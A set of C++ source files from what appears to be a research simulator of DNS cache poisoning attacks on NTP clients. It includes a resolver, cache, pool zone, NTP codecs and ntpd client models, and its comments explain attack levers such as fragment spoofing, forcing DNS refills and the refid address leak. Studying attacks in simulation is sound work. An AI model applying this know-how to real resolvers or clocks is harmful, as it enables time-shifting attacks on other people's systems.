  void fill(const DnsQuestion& q, DnsMessage& response,
            std::size_t rotation) const;

  DnsName apex_;
  std::vector<Ipv4Addr> servers_;
  Config config_;
  std::size_t rotation_ = 0;
};

}  // namespace dnstime::dns
