// DNS resource records.
//
// DNSSEC is modelled structurally (paper's attacks don't depend on crypto
// internals, only on whether validation accepts a record): an RRSIG's
// "signature" is a keyed hash of the covered RRset computed with a per-zone
// secret. A validating resolver that trusts the zone's key recomputes the
// hash; any off-path modification of rdata breaks it. Attackers do not know
// zone secrets, exactly as they cannot forge real signatures.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "common/types.h"
#include "dns/name.h"

namespace dnstime::dns {

enum class RrType : u16 {
  kA = 1,
  kNs = 2,
  kCname = 5,
  kTxt = 16,
  kRrsig = 46,
};

[[nodiscard]] constexpr const char* rr_type_name(RrType t) {
  switch (t) {
    case RrType::kA: return "A";
    case RrType::kNs: return "NS";
    case RrType::kCname: return "CNAME";
    case RrType::kTxt: return "TXT";
    case RrType::kRrsig: return "RRSIG";
  }
  return "?";
}

struct ResourceRecord {
  DnsName name;
  RrType type = RrType::kA;
  u32 ttl = 0;

  // rdata, one of (by `type`):
  Ipv4Addr a;          ///< kA
  DnsName target;      ///< kNs / kCname
  std::string txt;     ///< kTxt (also used as padding in studies)
  RrType covered = RrType::kA;  ///< kRrsig: covered type
  u64 signature = 0;            ///< kRrsig: structural signature value

  friend bool operator==(const ResourceRecord&, const ResourceRecord&) =
      default;
};

[[nodiscard]] inline ResourceRecord make_a(const DnsName& name, Ipv4Addr addr,
                                           u32 ttl) {
  ResourceRecord rr;
  rr.name = name;
  rr.type = RrType::kA;
  rr.ttl = ttl;
  rr.a = addr;
  return rr;
}

[[nodiscard]] inline ResourceRecord make_ns(const DnsName& name,
                                            const DnsName& target, u32 ttl) {
  ResourceRecord rr;
  rr.name = name;
  rr.type = RrType::kNs;
  rr.ttl = ttl;
  rr.target = target;
  return rr;
}

[[nodiscard]] inline ResourceRecord make_txt(const DnsName& name,
                                             std::string text, u32 ttl) {
  ResourceRecord rr;
  rr.name = name;
  rr.type = RrType::kTxt;
  rr.ttl = ttl;
  rr.txt = std::move(text);
  return rr;
}

/// Structural signature over an RRset: FNV-1a of the zone secret and the
/// rdata of every record in the set. Stands in for RRSIG crypto.
[[nodiscard]] u64 sign_rrset(u64 zone_secret, const DnsName& owner,
                             RrType type,
                             const std::vector<ResourceRecord>& rrset);

}  // namespace dnstime::dns
