#include "dns/resolver.h"

#include <algorithm>
#include <map>

#include "common/log.h"
#include "obs/counters.h"
#include "obs/provenance.h"
#include "obs/trace.h"

namespace dnstime::dns {

Resolver::Resolver(net::NetStack& stack, Config config)
    : stack_(stack), config_(std::move(config)) {
  stack_.bind_udp(kDnsPort, [this](const net::UdpEndpoint& from, u16,
                                   BufView payload) {
    on_client_query(from, payload);
  });
}

Resolver::~Resolver() {
  stack_.unbind_udp(kDnsPort);
  for (auto& [key, p] : pending_) {
    p.timeout.cancel();
    if (p.src_port != 0) stack_.unbind_udp(p.src_port);
  }
  DNSTIME_COUNT_ADD("dns.client_queries", client_queries_);
  DNSTIME_COUNT_ADD("dns.cache_hits", cache_hits_);
  DNSTIME_COUNT_ADD("dns.cache_misses", cache_misses_);
  DNSTIME_COUNT_ADD("dns.upstream_queries", upstream_queries_);
  DNSTIME_COUNT_ADD("dns.validation_failures", validation_failures_);
  DNSTIME_COUNT_ADD("dns.mismatched_responses", mismatched_);
  DNSTIME_COUNT_ADD("dns.poisoned_served", poisoned_served_);
}

void Resolver::mark_tainted(std::vector<Ipv4Addr> addrs) {
  tainted_.insert(tainted_.end(), addrs.begin(), addrs.end());
}

bool Resolver::is_tainted(Ipv4Addr addr) const {
  return std::find(tainted_.begin(), tainted_.end(), addr) != tainted_.end();
}

void Resolver::add_zone_hint(const DnsName& apex,
                             std::vector<Ipv4Addr> addrs) {
  hints_.emplace_back(apex, std::move(addrs));
}

void Resolver::on_client_query(const net::UdpEndpoint& from,
                               BufView payload) {
  DnsMessage query;
  try {
    query = decode_dns(payload);
  } catch (const DecodeError&) {
    return;
  }
  if (query.qr || query.questions.size() != 1) return;
  if (!config_.open_to_world &&
      from.addr.slash24() != stack_.addr().slash24()) {
    return;  // closed resolver: serve only the local network
  }
  client_queries_++;
  const DnsQuestion& q = query.questions.front();
  if (config_.ignore_rd_bit) query.rd = true;

  auto cached = cache_.lookup(q.name, q.type, stack_.now());
  if (cached) {
    cache_hits_++;
    answer_from_cache(from, query.id, q, *cached);
    return;
  }
  cache_misses_++;
  if (!query.rd) {
    // RD=0 and not cached: answer without records. This non-destructive
    // distinction is what the Table IV cache-probing study keys on.
    respond_empty(from, query.id, q, Rcode::kNoError);
    return;
  }
  start_upstream(q, from, query.id);
}

void Resolver::answer_from_cache(const net::UdpEndpoint& to, u16 id,
                                 const DnsQuestion& q,
                                 const std::vector<ResourceRecord>& rrset) {
  if (!tainted_.empty()) {
    for (const ResourceRecord& rr : rrset) {
      if (rr.type == RrType::kA && is_tainted(rr.a)) {
        poisoned_served_++;
        DNSTIME_TRACE_INSTANT(stack_.now().ns(), "dns", "poisoned-served");
        // The narrative wants the causal link: the cached entry's origin
        // names the spoofed packet that planted the answer being served.
        DNSTIME_PROV_EVENT(poisoned_served(
            stack_.now().ns(), cache_.origin(q.name, q.type, stack_.now()),
            q.name.to_string().c_str()));
        break;
      }
    }
  }
  DnsMessage resp;
  resp.id = id;
  resp.qr = true;
  resp.ra = true;
  resp.questions = {q};
  resp.answers = rrset;
  stack_.send_udp(to.addr, kDnsPort, to.port, encode_dns_buf(resp));
}

void Resolver::respond_empty(const net::UdpEndpoint& to, u16 id,
                             const DnsQuestion& q, Rcode rcode) {
  DnsMessage resp;
  resp.id = id;
  resp.qr = true;
  resp.ra = true;
  resp.rcode = rcode;
  resp.questions = {q};
  stack_.send_udp(to.addr, kDnsPort, to.port, encode_dns_buf(resp));
}

void Resolver::start_upstream(const DnsQuestion& q,
                              const net::UdpEndpoint& client, u16 client_id) {
  // Coalesce with an in-flight query for the same question.
  for (auto& [key, p] : pending_) {
    if (p.question == q) {
      p.clients.push_back(client);
      p.client_ids.push_back(client_id);
      return;
    }
  }
  auto upstream = pick_upstream(q.name);
  if (!upstream) {
    respond_empty(client, client_id, q, Rcode::kRefused);
    return;
  }
  u64 key = next_pending_key_++;
  Pending p;
  p.question = q;
  p.clients.push_back(client);
  p.client_ids.push_back(client_id);
  p.upstream = *upstream;
  pending_.emplace(key, std::move(p));
  send_upstream(pending_.at(key));
}

void Resolver::send_upstream(Pending& p) {
  upstream_queries_++;
  p.attempts++;
  if (p.src_port != 0) stack_.unbind_udp(p.src_port);
  p.txid = config_.randomize_challenge ? stack_.rng().next_u16() : seq_txid_++;
  p.src_port = config_.randomize_challenge
                   ? stack_.ephemeral_port()
                   : static_cast<u16>(10000 + (seq_txid_ % 1000));

  // Locate our own key (small map; linear scan is fine at sim scale).
  u64 key = 0;
  for (auto& [k, cand] : pending_) {
    if (&cand == &p) {
      key = k;
      break;
    }
  }

  stack_.bind_udp(p.src_port, [this, key](const net::UdpEndpoint& from, u16,
                                          BufView payload) {
    on_upstream_response(key, from, payload);
  });

  DnsMessage query;
  query.id = p.txid;
  query.rd = false;  // iterative upstream query
  query.questions = {p.question};
  stack_.send_udp(p.upstream, p.src_port, kDnsPort, encode_dns_buf(query));

  p.timeout.cancel();
  p.timeout = stack_.loop().schedule_after(
      config_.upstream_timeout, [this, key] { on_upstream_timeout(key); });
}

void Resolver::on_upstream_response(u64 key, const net::UdpEndpoint& from,
                                    BufView payload) {
  auto it = pending_.find(key);
  if (it == pending_.end()) return;
  Pending& p = it->second;

  // Challenge-response checks: source address, TXID, question. The source
  // port check is implicit — the handler is bound to the random port.
  if (from.addr != p.upstream || from.port != kDnsPort) {
    mismatched_++;
    return;
  }
  DnsMessage response;
  try {
    response = decode_dns(payload);
  } catch (const DecodeError&) {
    mismatched_++;
    return;
  }
  if (!response.qr || response.id != p.txid ||
      response.questions.size() != 1 ||
      !(response.questions.front() == p.question)) {
    mismatched_++;
    return;
  }
  if (config_.validate_dnssec && !validate(response)) {
    validation_failures_++;
    fail(key, Rcode::kServFail);
    return;
  }
  finish(key, response, payload.origin());
}

void Resolver::on_upstream_timeout(u64 key) {
  auto it = pending_.find(key);
  if (it == pending_.end()) return;
  Pending& p = it->second;
  if (p.attempts <= config_.upstream_retries) {
    send_upstream(p);
    return;
  }
  fail(key, Rcode::kServFail);
}

void Resolver::finish(u64 key, const DnsMessage& response,
                      const Origin& origin) {
  auto it = pending_.find(key);
  if (it == pending_.end()) return;
  Pending p = std::move(it->second);
  p.timeout.cancel();
  stack_.unbind_udp(p.src_port);
  pending_.erase(it);

  cache_response(p.question, response, origin);

  // Answer every waiting client from what we just learned.
  auto cached = cache_.lookup(p.question.name, p.question.type, stack_.now());
  for (std::size_t i = 0; i < p.clients.size(); ++i) {
    if (cached) {
      answer_from_cache(p.clients[i], p.client_ids[i], p.question, *cached);
    } else {
      respond_empty(p.clients[i], p.client_ids[i], p.question,
                    response.rcode);
    }
  }
}

void Resolver::fail(u64 key, Rcode rcode) {
  auto it = pending_.find(key);
  if (it == pending_.end()) return;
  Pending p = std::move(it->second);
  p.timeout.cancel();
  if (p.src_port != 0) stack_.unbind_udp(p.src_port);
  pending_.erase(it);
  for (std::size_t i = 0; i < p.clients.size(); ++i) {
    respond_empty(p.clients[i], p.client_ids[i], p.question, rcode);
  }
}

std::optional<Ipv4Addr> Resolver::pick_upstream(const DnsName& name) {
  // Prefer the most specific *cached* delegation: walk suffixes from the
  // full name down to 1 label, looking for NS + glue.
  const auto& labels = name.labels();
  for (std::size_t drop = 0; drop < labels.size(); ++drop) {
    DnsName suffix{std::vector<std::string>(labels.begin() +
                                                static_cast<std::ptrdiff_t>(drop),
                                            labels.end())};
    auto ns = cache_.lookup(suffix, RrType::kNs, stack_.now());
    if (!ns) continue;
    std::vector<Ipv4Addr> candidates;
    for (const auto& rr : *ns) {
      if (rr.type != RrType::kNs) continue;
      auto glue = cache_.lookup(rr.target, RrType::kA, stack_.now());
      if (glue) {
        for (const auto& g : *glue) {
          if (g.type == RrType::kA) candidates.push_back(g.a);
        }
      }
    }
    if (!candidates.empty()) {
      return candidates[stack_.rng().uniform(0, candidates.size() - 1)];
    }
  }
  // Fall back to the longest-matching static hint.
  const std::vector<Ipv4Addr>* best = nullptr;
  std::size_t best_len = 0;
  for (const auto& [apex, addrs] : hints_) {
    if (name.is_subdomain_of(apex) && apex.label_count() >= best_len) {
      best = &addrs;
      best_len = apex.label_count();
    }
  }
  if (!best || best->empty()) return std::nullopt;
  return (*best)[stack_.rng().uniform(0, best->size() - 1)];
}

bool Resolver::validate(const DnsMessage& response) {
  // Group records by (owner, type) per section and check each RRset that
  // falls under a trust anchor has a valid covering RRSIG.
  auto check_section = [&](const std::vector<ResourceRecord>& recs) {
    std::map<std::pair<std::string, RrType>, std::vector<ResourceRecord>>
        rrsets;
    std::map<std::pair<std::string, RrType>, u64> sigs;
    for (const auto& rr : recs) {
      if (rr.type == RrType::kRrsig) {
        sigs[{rr.name.to_string(), rr.covered}] = rr.signature;
      } else {
        rrsets[{rr.name.to_string(), rr.type}].push_back(rr);
      }
    }
    for (const auto& [key, rrset] : rrsets) {
      // Find the closest trust anchor covering this owner.
      DnsName owner = DnsName::from_string(key.first);
      const u64* secret = nullptr;
      for (const auto& [apex, s] : config_.trust_anchors) {
        if (owner.is_subdomain_of(DnsName::from_string(apex))) {
          secret = &s;
          break;
        }
      }
      if (!secret) continue;  // unsigned zone: nothing to validate
      auto sig_it = sigs.find(key);
      if (sig_it == sigs.end()) return false;  // signed zone, missing RRSIG
      u64 expect = sign_rrset(*secret, rrset.front().name, key.second, rrset);
      if (sig_it->second != expect) return false;
    }
    return true;
  };
  return check_section(response.answers) &&
         check_section(response.authority) &&
         check_section(response.additional);
}

void Resolver::cache_response(const DnsQuestion& q,
                              const DnsMessage& response,
                              const Origin& origin) {
  // Bailiwick rule: only cache records at or below the queried name's
  // zone (approximated by the matching hint/delegation apex). We use the
  // query name's parent domain as the bailiwick boundary.
  auto in_bailiwick = [&](const DnsName& owner) {
    // Accept records for the qname itself or any domain sharing the
    // qname's registrable suffix (last 2 labels) — models the RFC 5452
    // guidance real resolvers apply.
    const auto& ql = q.name.labels();
    if (ql.size() < 2) return true;
    DnsName suffix{std::vector<std::string>(ql.end() - 2, ql.end())};
    return owner.is_subdomain_of(suffix);
  };

  auto cache_section = [&](const std::vector<ResourceRecord>& recs) {
    std::map<std::pair<std::string, RrType>, std::vector<ResourceRecord>>
        rrsets;
    for (const auto& rr : recs) {
      if (rr.type == RrType::kRrsig) continue;
      if (!in_bailiwick(rr.name)) continue;
      rrsets[{rr.name.to_string(), rr.type}].push_back(rr);
    }
    for (auto& [key, rrset] : rrsets) {
      DNSTIME_PROV_EVENT(
          cache_insert(stack_.now().ns(), origin, key.first.c_str()));
      cache_.insert(DnsName::from_string(key.first), key.second,
                    std::move(rrset), stack_.now(), config_.max_cache_ttl,
                    origin);
    }
  };
  cache_section(response.answers);
  cache_section(response.authority);
  cache_section(response.additional);
}

void StubResolver::resolve(const DnsName& name, RrType type, Callback cb,
                           sim::Duration timeout) {
  queries_sent_++;
  u16 port = stack_.ephemeral_port();
  u16 txid = stack_.rng().next_u16();

  // Shared completion state between the response handler and the timeout.
  auto done = std::make_shared<bool>(false);
  auto finish = [this, port, done, cb](
                    const std::vector<ResourceRecord>& answers) {
    if (*done) return;
    *done = true;
    stack_.unbind_udp(port);
    cb(answers);
  };

  stack_.bind_udp(port, [txid, name, type, finish](
                            const net::UdpEndpoint&, u16,
                            BufView payload) {
    DnsMessage resp;
    try {
      resp = decode_dns(payload);
    } catch (const DecodeError&) {
      return;
    }
    if (!resp.qr || resp.id != txid) return;
    std::vector<ResourceRecord> answers;
    for (const auto& rr : resp.answers) {
      if (rr.type == type && rr.name == name) answers.push_back(rr);
    }
    finish(answers);
  });

  DnsMessage query;
  query.id = txid;
  query.rd = true;
  query.questions = {DnsQuestion{name, type}};
  stack_.send_udp(resolver_, port, kDnsPort, encode_dns_buf(query));

  stack_.loop().schedule_after(timeout,
                               [finish] { finish({}); });
}

}  // namespace dnstime::dns
