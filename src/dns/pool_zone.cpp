#include "dns/pool_zone.h"

namespace dnstime::dns {

PoolZone::PoolZone(DnsName apex, std::vector<Ipv4Addr> servers, Config config)
    : apex_(std::move(apex)),
      servers_(std::move(servers)),
      config_(std::move(config)) {}

bool PoolZone::handle(const DnsQuestion& q, DnsMessage& response) {
  if (!q.name.is_subdomain_of(apex_)) return false;
  fill(q, response, rotation_);
  if (q.type == RrType::kA && !servers_.empty()) {
    rotation_ = (rotation_ + config_.addresses_per_response) % servers_.size();
  }
  return true;
}

DnsMessage PoolZone::peek_response(const DnsQuestion& q) const {
  DnsMessage response;
  response.qr = true;
  response.aa = true;
  response.questions = {q};
  fill(q, response, rotation_);
  return response;
}

void PoolZone::fill(const DnsQuestion& q, DnsMessage& response,
                    std::size_t rotation) const {
  // Answers: next 4 pool addresses, round-robin.
  if (q.type == RrType::kA && !servers_.empty()) {
    std::vector<ResourceRecord> answers;
    for (std::size_t i = 0; i < config_.addresses_per_response; ++i) {
      Ipv4Addr addr = servers_[(rotation + i) % servers_.size()];
      answers.push_back(make_a(q.name, addr, config_.a_ttl));
    }
    emit_rrset(response.answers, answers, /*dnssec_signed=*/false, 0);
  } else if (q.type == RrType::kNs) {
    std::vector<ResourceRecord> ns;
    for (const auto& [name, _] : config_.nameservers) {
      ns.push_back(make_ns(apex_, name, config_.ns_ttl));
    }
    emit_rrset(response.answers, ns, false, 0);
  }

  // Optional TXT padding (response-size inflation).
  if (config_.pad_txt_bytes > 0) {
    response.answers.push_back(make_txt(
        q.name, std::string(config_.pad_txt_bytes, 'x'), config_.a_ttl));
  }

  // Authority: the zone's NS RRset; additional: glue. These form the tail
  // of the encoded message — the bytes a spoofed second fragment replaces.
  if (q.type != RrType::kNs) {
    std::vector<ResourceRecord> ns;
    for (const auto& [name, _] : config_.nameservers) {
      ns.push_back(make_ns(apex_, name, config_.ns_ttl));
    }
    emit_rrset(response.authority, ns, false, 0);
  }
  std::vector<ResourceRecord> glue;
  for (const auto& [name, addr] : config_.nameservers) {
    glue.push_back(make_a(name, addr, config_.ns_ttl));
  }
  response.additional.insert(response.additional.end(), glue.begin(),
                             glue.end());
}

}  // namespace dnstime::dns
