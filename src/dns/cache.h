// Resolver-side DNS cache with virtual-time TTL expiry.
//
// The cache is the attack's target store: a poisoned RRset persists here
// for its (attacker-chosen) TTL and is handed to every client that asks.
// The RD=0 probing study (Table IV) and the TTL histogram (Fig. 6) read
// through the same lookup path a real client uses.
#pragma once

#include <map>
#include <optional>
#include <vector>

#include "common/origin.h"
#include "dns/records.h"
#include "sim/time.h"

namespace dnstime::dns {

class DnsCache {
 public:
  /// Insert an RRset; lifetime = min TTL across records, capped by
  /// `max_ttl`. Replaces any existing entry for (name, type). `origin`
  /// is the provenance of the response payload the RRset came from, so a
  /// poisoned entry remembers which spoofed packet planted it.
  void insert(const DnsName& name, RrType type,
              std::vector<ResourceRecord> rrset, sim::Time now,
              u32 max_ttl = 7 * 86400, Origin origin = {});

  /// Fetch a live RRset; returned records carry the *remaining* TTL (this
  /// is what makes the Fig. 6 measurement possible from outside).
  [[nodiscard]] std::optional<std::vector<ResourceRecord>> lookup(
      const DnsName& name, RrType type, sim::Time now) const;

  [[nodiscard]] bool contains(const DnsName& name, RrType type,
                              sim::Time now) const {
    return lookup(name, type, now).has_value();
  }

  /// Remaining TTL in seconds, if cached.
  [[nodiscard]] std::optional<u32> remaining_ttl(const DnsName& name,
                                                 RrType type,
                                                 sim::Time now) const;

  /// Provenance of a live entry (default-constructed Origin when absent
  /// or expired).
  [[nodiscard]] Origin origin(const DnsName& name, RrType type,
                              sim::Time now) const;

  void evict(const DnsName& name, RrType type);
  void clear() { entries_.clear(); }
  [[nodiscard]] std::size_t size() const { return entries_.size(); }

 private:
  struct Key {
    std::string name;
    RrType type;
    friend auto operator<=>(const Key&, const Key&) = default;
  };
  struct Entry {
    std::vector<ResourceRecord> rrset;
    sim::Time expires;
    Origin origin;
  };
  std::map<Key, Entry> entries_;
};

}  // namespace dnstime::dns
