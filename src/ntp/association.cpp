#include "ntp/association.h"

namespace dnstime::ntp {

void Association::on_poll_sent() {
  reach_ = static_cast<u8>(reach_ << 1);
  unanswered_++;
}

void Association::on_response(double offset, double delay, sim::Time now) {
  reach_ |= 1;
  unanswered_ = 0;
  responses_++;
  last_response_ = now;
  samples_.push_back({offset, delay});
  while (samples_.size() > 8) samples_.pop_front();
}

void Association::on_kod(sim::Time now) {
  kods_++;
  last_response_ = now;
}

std::optional<double> Association::filtered_offset() const {
  if (samples_.empty()) return std::nullopt;
  const Sample* best = &samples_.front();
  for (const auto& s : samples_) {
    if (s.delay <= best->delay) best = &s;
  }
  return best->offset;
}

std::optional<double> Association::last_offset() const {
  if (samples_.empty()) return std::nullopt;
  return samples_.back().offset;
}

}  // namespace dnstime::ntp
