#include "ntp/packet.h"

#include "ntp/timestamps.h"

namespace dnstime::ntp {

namespace {

void write_ntp(ByteWriter& w, const NtpPacket& pkt) {
  w.write_u8(static_cast<u8>((pkt.leap << 6) | ((pkt.version & 0x7) << 3) |
                             (static_cast<u8>(pkt.mode) & 0x7)));
  w.write_u8(pkt.stratum);
  w.write_u8(pkt.poll);
  w.write_u8(static_cast<u8>(pkt.precision));
  w.write_u32(pkt.root_delay);
  w.write_u32(pkt.root_dispersion);
  w.write_u32(pkt.refid);
  w.write_u64(to_wire_timestamp(pkt.ref_time));
  w.write_u64(to_wire_timestamp(pkt.org_time));
  w.write_u64(to_wire_timestamp(pkt.rx_time));
  w.write_u64(to_wire_timestamp(pkt.tx_time));
}

}  // namespace

Bytes encode_ntp(const NtpPacket& pkt) {
  ByteWriter w;
  write_ntp(w, pkt);
  return std::move(w).take();
}

PacketBuf encode_ntp_buf(const NtpPacket& pkt) {
  ByteWriter w;
  write_ntp(w, pkt);
  return std::move(w).take_buf();
}

NtpPacket decode_ntp(std::span<const u8> data) {
  if (data.size() < 48) throw DecodeError("short NTP packet");
  ByteReader r(data);
  NtpPacket pkt;
  u8 lvm = r.read_u8();
  pkt.leap = lvm >> 6;
  pkt.version = (lvm >> 3) & 0x7;
  pkt.mode = static_cast<Mode>(lvm & 0x7);
  pkt.stratum = r.read_u8();
  pkt.poll = r.read_u8();
  pkt.precision = static_cast<i8>(r.read_u8());
  pkt.root_delay = r.read_u32();
  pkt.root_dispersion = r.read_u32();
  pkt.refid = r.read_u32();
  pkt.ref_time = from_wire_timestamp(r.read_u64());
  pkt.org_time = from_wire_timestamp(r.read_u64());
  pkt.rx_time = from_wire_timestamp(r.read_u64());
  pkt.tx_time = from_wire_timestamp(r.read_u64());
  return pkt;
}

namespace {
constexpr u8 kConfigMagicReq = 0xC1;
constexpr u8 kConfigMagicResp = 0xC2;
}  // namespace

Bytes encode_config_request() {
  ByteWriter w;
  w.write_u8(kConfigMagicReq);
  // Mode 6 in the LVM octet position for recognisability on the wire.
  w.write_u8(static_cast<u8>((4 << 3) | 6));
  return std::move(w).take();
}

bool is_config_request(std::span<const u8> data) {
  return data.size() == 2 && data[0] == kConfigMagicReq;
}

namespace {

void write_config_response(ByteWriter& w, const ConfigResponse& resp) {
  w.write_u8(kConfigMagicResp);
  w.write_u8(static_cast<u8>((4 << 3) | 6));
  w.write_u16(static_cast<u16>(resp.upstream_addrs.size()));
  for (auto addr : resp.upstream_addrs) w.write_u32(addr.value());
  w.write_u16(static_cast<u16>(resp.configured_hostname.size()));
  w.write_string(resp.configured_hostname);
}

}  // namespace

Bytes encode_config_response(const ConfigResponse& resp) {
  ByteWriter w;
  write_config_response(w, resp);
  return std::move(w).take();
}

PacketBuf encode_config_response_buf(const ConfigResponse& resp) {
  ByteWriter w;
  write_config_response(w, resp);
  return std::move(w).take_buf();
}

std::optional<ConfigResponse> decode_config_response(
    std::span<const u8> data) {
  try {
    ByteReader r(data);
    if (r.read_u8() != kConfigMagicResp) return std::nullopt;
    (void)r.read_u8();
    ConfigResponse resp;
    u16 n = r.read_u16();
    for (u16 i = 0; i < n; ++i) resp.upstream_addrs.emplace_back(r.read_u32());
    u16 len = r.read_u16();
    Bytes host = r.read_bytes(len);
    resp.configured_hostname.assign(host.begin(), host.end());
    return resp;
  } catch (const DecodeError&) {
    return std::nullopt;
  }
}

}  // namespace dnstime::ntp
