#include "ntp/client_base.h"

#include "ntp/poll_policy.h"

namespace dnstime::ntp {

NtpClientBase::NtpClientBase(net::NetStack& stack, SystemClock& clock,
                             ClientBaseConfig config)
    : stack_(stack),
      clock_(clock),
      config_(std::move(config)),
      stub_(stack, config_.resolver) {}

void NtpClientBase::poll_server(Ipv4Addr server, PollCallback cb) {
  u16 port = stack_.ephemeral_port();
  double t1 = clock_.wall_seconds(stack_.now());

  auto done = std::make_shared<bool>(false);
  auto finish = [this, port, done, cb](const PollResult& result) {
    if (*done) return;
    *done = true;
    stack_.unbind_udp(port);
    cb(result);
  };

  stack_.bind_udp(port, [this, t1, server, finish](
                            const net::UdpEndpoint& from, u16,
                            BufView payload) {
    if (from.addr != server || from.port != kNtpPort) return;
    NtpPacket resp;
    try {
      resp = decode_ntp(payload);
    } catch (const DecodeError&) {
      return;
    }
    if (resp.mode != Mode::kServer) return;
    PollResult result;
    result.packet = resp;
    if (resp.is_rate_kod()) {
      result.kod = true;
      finish(result);
      return;
    }
    // Origin-timestamp check: the response must echo our T1 (RFC 5905;
    // this is NTP's own off-path defence — our attack never has to beat
    // it because the client *willingly* queries the attacker's server).
    if (resp.org_time != t1) return;
    double t4 = clock_.wall_seconds(stack_.now());
    result.responded = true;
    result.offset = ((resp.rx_time - t1) + (resp.tx_time - t4)) / 2.0;
    result.delay = (t4 - t1) - (resp.tx_time - resp.rx_time);
    finish(result);
  });

  NtpPacket query;
  query.mode = Mode::kClient;
  query.tx_time = t1;
  stack_.send_udp(server, port, kNtpPort, encode_ntp_buf(query));

  stack_.loop().schedule_after(config_.poll_timeout,
                               [finish] { finish(PollResult{}); });
}

void NtpClientBase::resolve(const std::string& domain,
                            dns::StubResolver::Callback cb) {
  stub_.resolve(dns::DnsName::from_string(domain), dns::RrType::kA,
                std::move(cb));
}

bool NtpClientBase::discipline(double offset, bool at_boot) {
  const PollPolicy policy{.step_threshold = config_.step_threshold,
                          .panic_threshold = config_.panic_threshold,
                          .allow_panic_at_boot = config_.allow_panic_at_boot};
  switch (classify_offset(offset, at_boot, policy)) {
    case OffsetAction::kNone:
      return false;
    case OffsetAction::kSlew:
      clock_.slew(offset, stack_.now());
      return true;
    case OffsetAction::kStep:
      clock_.step(offset, stack_.now());
      return true;
    case OffsetAction::kRefuse:
      return false;  // panic: refuse
  }
  return false;
}

}  // namespace dnstime::ntp
