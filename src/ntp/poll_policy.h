// Clock-discipline policy, factored out of NtpClientBase so population-
// scale worlds can discipline flat per-client state without instantiating
// a client object per victim.
//
// The branch structure is exactly NtpClientBase::discipline's (ntpd
// semantics, §V-A1): offsets within the noise floor are ignored, small
// offsets slew, large ones step up to the panic threshold, and the panic
// threshold itself is waived at boot (ntpd -g). scenario::ClientPopulation
// and NtpClientBase both classify through this one function, so the herd
// and the single-victim worlds can never drift apart on discipline rules.
#pragma once

#include "common/types.h"

namespace dnstime::ntp {

/// Offsets below this magnitude (seconds) are measurement noise; applying
/// them would just jitter the clock.
inline constexpr double kOffsetNoiseFloor = 0.0005;

struct PollPolicy {
  /// Offsets above this are stepped rather than slewed (ntpd: 128 ms).
  double step_threshold = 0.128;
  /// Offsets above this are refused at run-time (ntpd panic: 1000 s).
  double panic_threshold = 1000.0;
  /// Accept any offset at boot (ntpd -g; §V-A1: limits "are explicitly not
  /// enforced at boot-time").
  bool allow_panic_at_boot = true;
};

enum class OffsetAction : u8 {
  kNone,    ///< within noise, leave the clock alone
  kSlew,    ///< gradual adjustment
  kStep,    ///< set the clock
  kRefuse,  ///< beyond panic threshold at run-time
};

[[nodiscard]] constexpr OffsetAction classify_offset(double offset,
                                                     bool at_boot,
                                                     const PollPolicy& policy) {
  const double mag = offset < 0 ? -offset : offset;
  if (mag < kOffsetNoiseFloor) return OffsetAction::kNone;
  if (mag <= policy.step_threshold) return OffsetAction::kSlew;
  if (mag <= policy.panic_threshold ||
      (at_boot && policy.allow_panic_at_boot)) {
    return OffsetAction::kStep;
  }
  return OffsetAction::kRefuse;
}

}  // namespace dnstime::ntp
