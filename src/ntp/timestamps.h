// NTP timestamp representation (RFC 5905 §6: 64-bit, 32.32 fixed point,
// seconds since 1900-01-01).
//
// Internally the library carries wall-clock time as double seconds in the
// NTP era; the codec converts to/from the wire fixed-point form. Sub-
// nanosecond truncation is irrelevant at the attack's -500 s scale.
#pragma once

#include <cmath>

#include "common/types.h"
#include "sim/time.h"

namespace dnstime::ntp {

/// Simulation wall-clock base: an arbitrary NTP-era timestamp standing in
/// for "now" at simulation start (2020-01-01 ≈ 3786825600 NTP seconds).
inline constexpr double kSimEpochNtpSeconds = 3786825600.0;

/// Convert wall seconds (NTP era, double) to the 64-bit wire form.
[[nodiscard]] inline u64 to_wire_timestamp(double wall_seconds) {
  if (wall_seconds <= 0) return 0;
  double integral = 0;
  double frac = std::modf(wall_seconds, &integral);
  return (static_cast<u64>(integral) << 32) |
         static_cast<u64>(frac * 4294967296.0);
}

/// Convert the 64-bit wire form back to wall seconds.
[[nodiscard]] inline double from_wire_timestamp(u64 wire) {
  return static_cast<double>(wire >> 32) +
         static_cast<double>(wire & 0xFFFFFFFFull) / 4294967296.0;
}

}  // namespace dnstime::ntp
