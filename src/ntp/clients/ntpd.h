// ntpd client model (reference NTP implementation).
//
// Behaviours reproduced from §V-B3 of the paper:
//  * `pool` directive: DNS lookups mobilise server associations;
//  * NTP_MAXCLOCK = 10 with 4 persistent pool slots => m = 6 usable server
//    associations in the default configuration;
//  * NTP_MINCLOCK = 3: new DNS lookups happen at run-time only when the
//    number of live associations drops below 3 — the attacker must
//    demobilise n = m - 2 = 4 servers to trigger a query;
//  * associations are demobilised after the reachability register drains
//    (8 unanswered polls);
//  * selection = median over clock-filtered offsets of reachable peers, a
//    step requires the offset to persist several rounds (models ntpd's
//    multi-minute convergence in Table II);
//  * when also acting as a server (default), the current system peer is
//    exposed as the refid — the §IV-B2b address leak.
#pragma once

#include <memory>

#include "ntp/client_base.h"
#include "ntp/server.h"

namespace dnstime::ntp {

struct NtpdConfig {
  int min_clock = 3;    ///< NTP_MINCLOCK
  int max_servers = 6;  ///< NTP_MAXCLOCK minus pool slots
  int demobilize_after_unanswered = 8;
  int rounds_before_step = 3;
};

class NtpdClient : public NtpClientBase {
 public:
  NtpdClient(net::NetStack& stack, SystemClock& clock,
             ClientBaseConfig base_config, NtpdConfig config = NtpdConfig{});

  void start() override;
  [[nodiscard]] std::string name() const override { return "ntpd"; }
  [[nodiscard]] std::vector<Ipv4Addr> current_servers() const override;

  /// Attach the co-located NTP server so selection updates its refid
  /// (ntpd is client and server in one process by default).
  void attach_server(NtpServer* server) { attached_server_ = server; }

  [[nodiscard]] Ipv4Addr system_peer() const { return system_peer_; }
  [[nodiscard]] u64 dns_refills() const { return refills_; }
  [[nodiscard]] std::size_t association_count() const {
    return assocs_.size();
  }
  [[nodiscard]] const NtpdConfig& ntpd_config() const { return config_ntpd_; }

 private:
  void refill_from_dns();
  void poll_round();
  void run_selection();
  void maintain_associations();

  NtpdConfig config_ntpd_;
  std::vector<std::unique_ptr<Association>> assocs_;
  NtpServer* attached_server_ = nullptr;
  Ipv4Addr system_peer_;
  bool booting_ = true;
  bool refill_in_flight_ = false;
